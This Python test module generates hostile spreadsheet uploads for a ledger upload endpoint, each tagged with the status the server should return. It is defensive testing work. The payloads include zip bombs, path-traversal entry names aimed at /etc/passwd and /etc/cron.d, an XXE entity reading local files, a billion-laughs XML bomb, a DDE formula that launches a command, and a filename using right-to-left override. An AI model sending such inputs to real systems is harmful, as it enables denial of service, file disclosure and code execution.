"""Files that nobody should hand in, and some that only look so; each with what must become of it.

Made here and never kept: a corpus in the repository would be an archive of attacks.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import xlsxwriter

from lianjian.beside.ledgers.tests.makers import a_sheet

REFUSED, TAKEN = 422, 302
GOOD = [["村名", "需求"], ["石桥村", "农产品销路"]]
_MB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """One file: its name as a browser sends it, its bytes, the status that it must get."""

    what: str
    name: str
    data: bytes
    status: int = REFUSED


MAKERS: list[Callable[[], Hostile]] = []


def hostile(
    what: str, name: str = "台账.xlsx", *, status: int = REFUSED
) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def decorate(make: Callable[[], bytes]) -> Callable[[], bytes]:
        MAKERS.append(lambda: Hostile(what, name, make(), status))
        return make

    return decorate


def zipped(parts: dict[str, bytes], *, links: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if links:
                info.external_attr = 0o120777 << 16
            archive.writestr(info, data)
    return out.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_parts(**changes: bytes) -> bytes:
    parts = parts_of(a_sheet(GOOD))
    return zipped({**parts, **{name.replace("__", "/"): data for name, data in changes.items()}})


def says_size(data: bytes, name: str, size: int) -> bytes:
    """The archive with another uncompressed size written down for one entry, in both headers."""
    changed = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
    changed[info.header_offset + 22 : info.header_offset + 26] = struct.pack("<I", size)
    at = data.index(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack("<H", data[at + 28 : at + 30])[0]
        if data[at + 46 : at + 46 + length] == name.encode():
            changed[at + 24 : at + 28] = struct.pack("<I", size)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


@hostile("nothing at all")
def empty() -> bytes:
    return b""


@hostile("only zeros")
def zeros() -> bytes:
    return b"\0" * 4096


@hostile("a workbook without a filled cell")
def blank() -> bytes:
    return a_sheet([])


@hostile("cut off in the middle")
def truncated() -> bytes:
    data = a_sheet(GOOD)
    return data[: len(data) // 2]


@hostile("cut off at its last bytes")
def truncated_end() -> bytes:
    return a_sheet(GOOD)[:-30]


@hostile("one byte of a sheet changed")
def flipped() -> bytes:
    data = bytearray(a_sheet([*GOOD, *[["石桥村", f"需求{n}"] for n in range(500)]]))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    data[info.header_offset + 80] ^= 0xFF
    return bytes(data)


@hostile("flat bomb: a gigabyte of blanks in one entry")
def flat_bomb() -> bytes:
    return with_parts(xl__media__image1__png=b" " * (300 * _MB))


@hostile("flat bomb below the limit, a thousand times its size")
def ratio_bomb() -> bytes:
    return with_parts(xl__sharedStrings__xml=b" " * (60 * _MB))


@hostile("headers that declare less than there is")
def lying_less() -> bytes:
    data = with_parts(**{"xl__big__bin": b"a" * (40 * _MB)})
    return says_size(data, "xl/big/bin", 1000)


@hostile("headers that declare more than there is")
def lying_more() -> bytes:
    return says_size(with_parts(**{"xl__big__bin": b"a" * 1000}), "xl/big/bin", 4000)


@hostile("an archive in an archive in an archive")
def nested() -> bytes:
    inner = zipped({"inner.txt": b" " * _MB})
    for _depth in range(6):
        inner = zipped({f"{n}.zip": inner for n in range(4)})
    return inner


@hostile("a workbook with a bomb embedded in it, which nobody opens", status=TAKEN)
def embedded() -> bytes:
    return with_parts(xl__embeddings__bomb__zip=zipped({"a": b" " * _MB}))


@hostile("three thousand entries")
def many_entries() -> bytes:
    return zipped({**parts_of(a_sheet(GOOD)), **{f"xl/{n}.xml": b"<a/>" for n in range(3000)}})


@hostile("two entries that share their bytes")
def overlapping() -> bytes:
    data = a_sheet(GOOD)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        first = archive.getinfo(names[0])
    changed = bytearray(data)
    at = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 4)
    changed[at + 42 : at + 46] = struct.pack("<I", first.header_offset)
    return bytes(changed)


@hostile("the same name twice")
def twice() -> bytes:
    out = io.BytesIO(a_sheet(GOOD))
    with zipfile.ZipFile(out, "a") as archive:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr("xl/workbook.xml", b"<workbook/>")
    return out.getvalue()


@hostile("an entry above its folder")
def leads_out() -> bytes:
    return zipped({**parts_of(a_sheet(GOOD)), "../../etc/passwd": b"root"})


@hostile("an entry at the root of the disk")
def absolute() -> bytes:
    return zipped({**parts_of(a_sheet(GOOD)), "/etc/passwd": b"root"})


@hostile("an entry with a drive and backslashes")
def drive() -> bytes:
    return zipped({**parts_of(a_sheet(GOOD)), "C:\\windows\\a": b"x"})


@hostile("entries that are links")
def links() -> bytes:
    return zipped(parts_of(a_sheet(GOOD)), links=True)


@hostile("a billion laughs")
def laughs() -> bytes:
    lines = ['<!DOCTYPE x [<!ENTITY a "ha">']
    lines += [
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    ]
    return with_parts(xl__sharedStrings__xml=("".join(lines) + "]><sst>&j;</sst>").encode())


@hostile("an outside entity")
def outside_entity() -> bytes:
    text = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst>&a;</sst>'
    return with_parts(xl__sharedStrings__xml=text)


@hostile("broken XML in the sheet")
def broken_xml() -> bytes:
    return zipped(
        {**parts_of(a_sheet(GOOD)), "xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row"}
    )


@hostile("macros", "台账.xlsm")
def macros() -> bytes:
    return zipped({**parts_of(a_sheet(GOOD)), "xl/vbaProject.bin": b"\xd0\xcf"})


def ole(*names: str) -> bytes:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    return head + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in names)


@hostile("a password")
def encrypted() -> bytes:
    return ole("EncryptionInfo", "EncryptedPackage")


@hostile("an encrypted entry")
def encrypted_entry() -> bytes:
    data = bytearray(a_sheet(GOOD))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


@hostile("an old workbook that is none", "台账.xls")
def old_broken() -> bytes:
    return ole("Workbook") + b"\1" * 4096


@hostile("an old workbook with macros", "台账.xls")
def old_macros() -> bytes:
    return ole("Workbook", "_VBA_PROJECT_CUR", "_VBA_PROJECT")


@hostile("a text document")
def document() -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})


@hostile("HTML called .xlsx")
def html() -> bytes:
    return b"<html><table><tr><td>\xe6\x9d\x91</td></tr></table><script>alert(1)</script></html>"


@hostile("SVG called .xlsx")
def svg() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'


@hostile("a PNG called .xlsx")
def png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + zlib.compress(b"\0" * 1000)


@hostile("a PDF called .csv", "台账.csv")
def pdf() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n\0\0endobj"


@hostile("a polyglot: a PNG with a workbook behind it")
def polyglot() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + a_sheet(GOOD)


@hostile("a program")
def program() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 40


@hostile("one cell in the last corner: seventeen thousand million blank ones before it")
def corner() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        page = book.add_worksheet()
        page.write(0, 0, "村名")
        page.write(1_048_575, 16_383, "x")
    return out.getvalue()


@hostile("16,384 columns")
def wide() -> bytes:
    return a_sheet([[f"列{n}" for n in range(16_384)], ["x"] * 16_384])


@hostile("a text of thirty thousand characters in every cell")
def long_texts() -> bytes:
    return a_sheet([["长" * 32_000] * 100] * 300)


@hostile("1,048,576 rows, all but two of them blank", status=TAKEN)
def blank_rows() -> bytes:
    sheet = parts_of(a_sheet(GOOD))["xl/worksheets/sheet1.xml"]
    rows = b"".join(b'<row r="%d"/>' % n for n in range(3, 1_048_577))
    return zipped(
        {
            **parts_of(a_sheet(GOOD)),
            "xl/worksheets/sheet1.xml": sheet.replace(b"</sheetData>", rows + b"</sheetData>"),
        }
    )


@hostile("cells that are formulas", status=TAKEN)
def formulas() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        page = book.add_worksheet()
        page.write_row(0, 0, ["村名", "需求"])
        page.write_string(1, 0, "石桥村")
        page.write_formula(1, 1, '=HYPERLINK("https://example.cn/?"&A1,"销路")', None, "农产品销路")
    return out.getvalue()


@hostile("texts that would be formulas", status=TAKEN)
def injected() -> bytes:
    return a_sheet([["村名", "需求"], ["石桥村", "=cmd|'/c calc'!A0"], ["石桥村", "+1+1"]])


@hostile("GB 18030", "台账.csv", status=TAKEN)
def gb18030() -> bytes:
    return "村名,需求\r\n石桥村,农产品销路\r\n".encode("gb18030")


@hostile("UTF-16", "台账.csv", status=TAKEN)
def utf16() -> bytes:
    return "村名\t需求\n石桥村\t农产品销路\n".encode("utf-16")


@hostile("a quote that never ends", "台账.csv")
def open_quote() -> bytes:
    return ('村名,需求\n"石桥村,' + "长" * 1_200_000).encode()


@hostile("a name that leads out", "../../../etc/cron.d/台账.xlsx", status=TAKEN)
def name_leads_out() -> bytes:
    return a_sheet(GOOD)


@hostile("a name of 255 bytes", f"{'长' * 83}.xlsx", status=TAKEN)
def name_long() -> bytes:
    return a_sheet(GOOD)


@hostile("a name that reads backwards", "台账\u202excl.xlsx", status=TAKEN)
def name_backwards() -> bytes:
    return a_sheet(GOOD)


@hostile("twenty-one megabytes")
def too_large() -> bytes:
    return b"x" * (21 * _MB)
